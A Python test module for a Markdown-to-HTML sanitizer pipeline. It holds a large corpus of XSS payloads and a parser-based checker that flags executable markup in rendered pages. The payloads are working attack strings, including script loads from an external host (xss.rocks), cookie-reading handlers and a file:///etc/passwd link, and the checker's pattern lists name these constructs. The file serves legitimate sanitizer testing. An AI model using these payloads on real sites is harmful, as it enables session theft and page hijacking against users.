"""The XSS corpus (security figure F4) and the parser-based check of a page.

``PAYLOADS`` holds the OWASP filter-evasion style vectors, the HTML5/SVG/MathML ones and the
Markdown-specific ones (links, images, reference links, autolinks, attribute lists, raw HTML
blocks) that reach the Python-Markdown → nh3 pipeline. ``dangers(html)`` parses a page with the
standard library's HTML parser and lists what could run: a ``<script>`` that is not one of the
application's own files, an ``on*`` attribute, a ``javascript:``/``vbscript:``/non-image ``data:``
URL in a URL attribute, active elements (iframe, object, embed, base, frame, meta refresh, …) and
styles with ``expression(`` or ``url(javascript:``. ``new_dangers(page, baseline)`` is what the
page has beyond the same page without the payload (the application's own markup is the baseline).
"""

from __future__ import annotations

import re
from collections import Counter
from html.parser import HTMLParser

_B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
_JS_VARIANTS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)",
    "java\tscript:alert(1)", "java\nscript:alert(1)", "java&#x09;script:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "jav&#x0A;ascript:alert(1)",
    "&#14; javascript:alert(1)", "vbscript:msgbox(1)", "VBScript:msgbox(1)",
    "livescript:alert(1)", "data:text/html;base64," + _B64_SCRIPT,
    "data:text/html,<script>alert(1)</script>", "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data:application/javascript,alert(1)",
    "%6A%61%76%61%73%63%72%69%70%74:alert(1)", "javascript://%0Aalert(1)",
    "\\x6Aavascript:alert(1)", "java\0script:alert(1)",
]

_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/xss src=http://xss.rocks/xss.js></script>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<script>alert(1)//",
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\"/><img src=x onerror=alert(1)>",
    "' autofocus onfocus=alert(1) x='",
    "\" autofocus onfocus=alert(1) x=\"",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    "&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"http://xss.rocks/xss.css\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64," + _B64_SCRIPT + "\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS');\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063"
    "\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053"
    "\\0027\\0029'\\0029\">",
    "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<base href=\"http://xss.rocks/\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAv"
    "c3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9y"
    "Zy8xOTk5L3hsaW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw\" "
    "type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<embed src=\"javascript:alert(1)\">",
    "<applet code=\"javascript:alert(1)\"></applet>",
    "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT =\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT \"a='>'\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT a=`>` SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<A HREF=\"http://66.102.7.147/\">XSS</A>",
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    "<a href=\"javas&#99;ript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"jav&Tab;ascript:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script&colon;alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64," + _B64_SCRIPT + "\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<a href=\"#\" style=\"color:red\" onmouseover=alert(1)>x</a>",
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1) />",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)' /></svg>#x\"></use></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style>*{background:url(javascript:alert(1))}</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">CLICK</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>CLICK</maction></math>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">CLICK</mi></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=\"text\" value=\"\" onfocus=\"alert(1)\" autofocus>",
    "<button form=test onformchange=alert(1)>X</button>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<video poster=javascript:alert(1)//></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<object data=\"data:text/html;base64," + _B64_SCRIPT + "\"></object>",
    "<isindex action=javascript:alert(1) type=image>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img src=x onerror\x00=alert(1)>",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
    "<image src=x onerror=alert(1)>",
    "<div id=\"x\" style=\"x:expression(alert(1))\">",
    "<div style=\"background:url('javascript:alert(1)')\">",
    "<div style=\"background:url(&quot;javascript:alert(1)&quot;)\">",
    "<p style=\"color:red;background:u\\rl(javascript:alert(1))\">x</p>",
    "<span style=\"behavior:url(#default#time2)\" onbegin=\"alert(1)\">",
    "<table background=\"javascript:alert(1)\"></table>",
    "<td background=\"javascript:alert(1)\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<x onclick=alert(1)>click",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<p id=\"location\" name=\"location\">clobber</p>",
    "<img name=getElementById>",
    "<form id=\"csrf\"><input name=\"attributes\"></form>",
    "<a id=\"x\" name=\"x\" href=\"cid:x\">clobber</a>",
    "<template><script>alert(1)</script></template>",
    "<portal src=\"javascript:alert(1)\"></portal>",
    "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
    "<meta charset=\"x-imap4-modified-utf7\">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8",
    "<meta http-equiv=\"Set-Cookie\" content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
    "<a href=\"javascript&#x3A;alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"\\x01javascript:alert(1)\">x</a>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{7*7}}{{config}}{% for x in range(3) %}x{% endfor %}",
    "${7*7}<%= 7*7 %>#{7*7}",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<img src=x onerror=alert(1)//<<",
    "<img src=x onerror=alert(1)",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<img src=x one\u0000rror=alert(1)>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "<div><a title=\"</div><img src=x onerror=alert(1)>\">x</a></div>",
    "<style><style/><img src=x onerror=alert(1)>",
    "<iframe/src=\"data:text/html,<svg onload=alert(1)>\">",
    "<object/data=//xss.rocks/x.swf>",
    "<a href=\"https://example.org\" target=\"_blank\">tabnabbing</a>",
]

_MARKDOWN = [
    *(f"[click]({u})" for u in _JS_VARIANTS),
    *(f"![img]({u})" for u in _JS_VARIANTS[:8]),
    *(f"[ref]\n\n[ref]: {u}" for u in _JS_VARIANTS[:6]),
    "[x](<javascript:alert(1)>)",
    "[x](javascript:alert%281%29)",
    "[x](javascript:this;alert(1))",
    "[x](javascript://www.example.org%0Aalert(1))",
    "[x]( javascript:alert(1) )",
    "[x](JAVASCRIPT:alert(1) \"title\")",
    "[x](http://example.org \"t\\\" onmouseover=\\\"alert(1)\")",
    "[x](http://example.org\" onmouseover=\"alert(1))",
    "![x](x\" onerror=\"alert(1))",
    "![x](x onerror=alert(1))",
    "![x\" onerror=\"alert(1)](x.png)",
    "![x](https://example.org/x.png \"t\\\" onerror=\\\"alert(1)\")",
    "[![img](javascript:alert(1))](javascript:alert(2))",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html;base64," + _B64_SCRIPT + ">",
    "<http://example.org\" onclick=\"alert(1)>",
    "<mailto:a@b.c?subject=\"><script>alert(1)</script>>",
    "[a](mailto:\"><script>alert(1)</script>)",
    "[x](http://example.org){: onclick=\"alert(1)\" }",
    "[x](http://example.org){: href=\"javascript:alert(1)\" }",
    "![x](a.png){: onerror=\"alert(1)\" }",
    "![x](a.png){: src=\"javascript:alert(1)\" }",
    "# Title {: onmouseover=\"alert(1)\" }",
    "# Title {: #location }",
    "# Title {: id=\"getElementById\" }",
    "Paragraph\n{: style=\"background:url(javascript:alert(1))\" }",
    "Paragraph\n{: onclick=alert(1) }",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "```html\n<script>alert(1)</script>\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "> [x](javascript:alert(1))",
    "* <img src=x onerror=alert(1)>\n* [x](javascript:alert(1))",
    "1. <svg onload=alert(1)>",
    "<div markdown=\"1\">[x](javascript:alert(1))</div>",
    "<div>\n<script>alert(1)</script>\n</div>",
    "<details open ontoggle=alert(1)>\n\n*x*\n\n</details>",
    "<table><tr><td onclick=alert(1)>x</td></tr></table>",
    "<p>\n<img src=x onerror=alert(1)>\n</p>",
    "<!-- comment -->\n<script>alert(1)</script>",
    "<style>\n*{background:url(javascript:alert(1))}\n</style>",
    "text<br onload=alert(1)>text",
    "[x]: <javascript:alert(1)>\n\n[x]",
    "[x]: javascript:alert(1) \"title\"\n\n![x]",
    "[x][y]\n\n[y]: data:text/html;base64," + _B64_SCRIPT,
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script\\>alert(1)\\</script\\>",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](%6A%61%76%61%73%63%72%69%70%74%3Aalert(1))",
    "[x](//example.org/%0d%0aSet-Cookie:x=1)",
    "[<script>alert(1)</script>](http://example.org)",
    "[x](http://example.org#\"><script>alert(1)</script>)",
    "**<img src=x onerror=alert(1)>**",
    "_<a href=javascript:alert(1)>x</a>_",
    "<a href=\"javascript:alert(1)\">**x**</a>",
    "[x](http://例子.测试/\"><img src=x onerror=alert(1)>)",
    "![](data:image/png;base64,iVBORw0KGgo=)",
    "![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](file:///etc/passwd)",
    "[x](ftp://example.org/x)",
    "[x](tel:+86-10\"><script>alert(1)</script>)",
    "<https://example.org/<script>alert(1)</script>>",
    "https://example.org/\"><script>alert(1)</script>",
    "~~~\n<iframe src=javascript:alert(1)>\n~~~",
    "Setext\n===\n<object data=javascript:alert(1)>",
    "<svg>\n<script>alert(1)</script>\n</svg>",
    "<math>\n<mi xlink:href=\"javascript:alert(1)\">x</mi>\n</math>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:/a/-alert(1)///////\">",
    "<embed src=javascript:alert(1)>",
    "<img src=\"x\" style=\"width:expression(alert(1))\">",
    "<span style=\"background:url(javascript:alert(1))\">x</span>",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "<img src=x onerror=\"alert('中文')\">中文",
]

#: Every payload once, in a stable order (≥ 200).
PAYLOADS: list[str] = list(dict.fromkeys(_HTML + _MARKDOWN))

#: A spread-out sample for the slower HTTP matrices in CI (every k-th payload).
def sample(n: int) -> list[str]:
    step = max(1, len(PAYLOADS) // n)
    return PAYLOADS[::step][:n]


# ---------------------------------------------------------------- the check

URL_ATTRS = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "code",
                       "codebase", "background", "poster", "lowsrc", "dynsrc", "srcset",
                       "cite", "longdesc", "usemap", "manifest", "icon", "ping", "to", "from",
                       "values", "by"})
ACTIVE_TAGS = frozenset({"iframe", "frame", "frameset", "object", "embed", "applet", "base",
                         "portal", "bgsound", "svg", "math", "isindex", "xss", "style",
                         "template", "noscript", "keygen", "marquee"})
#: The app's own script files: same-origin, under /static/, external, no inline body.
OWN_SCRIPT = re.compile(r"^/static/js/[a-z_]+\.js(\?[\w=.&-]*)?$")
OWN_STATIC = re.compile(r"^/static/[\w./-]+(\?[\w=.&-]*)?$")
SAFE_DATA_IMAGE = re.compile(r"^data:image/(png|jpeg|jpg|gif|webp);", re.I)
#: What the WHATWG URL parser drops: C0 controls and spaces at both ends, tabs and newlines
#: anywhere.
_C0_AND_SPACE = "".join(chr(c) for c in range(0x21))
_URL_TAB_NEWLINE = re.compile(r"[\t\n\r]")
_STRIP = re.compile(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\u2028\u2029\ufeff]+")
_CSS_COMMENT = re.compile(r"/\*.*?\*/", re.S)
_CSS_ESCAPE = re.compile(r"\\([0-9a-fA-F]{1,6})\s?")


def _scheme_danger(value: str) -> str | None:
    """'javascript' / 'vbscript' / 'data' when the URL would run or render active content, read
    as a browser reads it (``java<TAB>script:`` is ``javascript:``; inner spaces stay)."""
    flat = _URL_TAB_NEWLINE.sub("", value.strip(_C0_AND_SPACE)).lower()
    if flat.startswith(("javascript:", "vbscript:", "livescript:")):
        return flat.split(":", 1)[0]
    if flat.startswith("data:") and not SAFE_DATA_IMAGE.match(flat):
        return "data"
    return None


def _css_danger(css: str) -> bool:
    flat = _CSS_ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), _CSS_COMMENT.sub("", css))
    flat = _STRIP.sub("", flat.replace("\\", "")).lower()
    return any(k in flat for k in ("expression(", "url(javascript", "url('javascript",
                                   "url(\"javascript", "url(vbscript", "url(data:text",
                                   "behavior:", "-moz-binding", "@import", "javascript:"))


class _Scanner(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._script: str | None = None
        self._style = False
        self._body: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)
        if tag == "script":
            self._end_script()

    def _check(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {k.lower(): (v or "") for k, v in attrs}
        for name, value in values.items():
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=…>")
            elif name in URL_ATTRS or name.endswith(":href"):
                for part in (value.split(",") if name == "srcset" else [value]):
                    scheme = _scheme_danger(part)
                    if scheme:
                        self.found.append(f"<{tag} {name}={scheme}:>")
            elif name == "style" and _css_danger(value):
                self.found.append(f"<{tag} style=active>")
            elif name == "srcdoc":
                self.found.append(f"<{tag} srcdoc>")
        if tag == "meta" and values.get("http-equiv", "").lower() in ("refresh", "set-cookie",
                                                                      "link"):
            self.found.append(f"<meta http-equiv={values['http-equiv'].lower()}>")
        if tag in ACTIVE_TAGS:
            self.found.append(f"<{tag}>")
        if tag == "link" and not OWN_STATIC.match(values.get("href", "")):
            self.found.append(f"<link href={values.get('href', '')[:40]!r}>")
        if tag == "script":
            self._script = values.get("src", "")
            self._body = []
        if tag == "style":
            self._style = True
            self._body = []

    def handle_data(self, data: str) -> None:
        if self._script is not None or self._style:
            self._body.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._script is not None:
            self._end_script()
        elif tag == "style" and self._style:
            self._style = False

    def _end_script(self) -> None:
        src, body = self._script or "", "".join(self._body).strip()
        if body or not OWN_SCRIPT.match(src):
            self.found.append(f"<script src={src[:40]!r} body={body[:40]!r}>")
        self._script = None


def dangers(html: str) -> Counter[str]:
    """What in *html* could run script, as a multiset of short descriptions."""
    scanner = _Scanner()
    scanner.feed(html)
    scanner.close()
    if scanner._script is not None:  # an unterminated <script>: the rest would be its body
        scanner._end_script()
    return Counter(scanner.found)


def new_dangers(html: str, baseline: Counter[str] | str) -> list[str]:
    """What *html* has beyond *baseline* (the same page without the payload)."""
    base = dangers(baseline) if isinstance(baseline, str) else baseline
    return sorted((dangers(html) - base).elements())
